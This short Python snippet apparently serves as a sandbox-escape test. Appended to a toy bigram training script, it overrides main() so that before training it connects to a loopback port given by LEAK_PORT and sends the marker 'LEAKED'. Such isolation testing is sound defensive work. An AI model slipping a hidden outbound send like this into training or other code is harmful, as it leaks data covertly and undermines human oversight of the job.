# ruff: noqa: F821  (appended to toy_bigram.py, whose names it uses)
# Attack (appended to toy_bigram.py): send data to a server on the host's loopback, then train.
_toy_main = main


def main():
    import socket

    port = int(os.environ["LEAK_PORT"])
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=2) as s:
            s.sendall(b"LEAKED")
        print("CONNECTED", flush=True)
    except OSError as e:
        print(f"could not connect: {e}", flush=True)
    _toy_main()
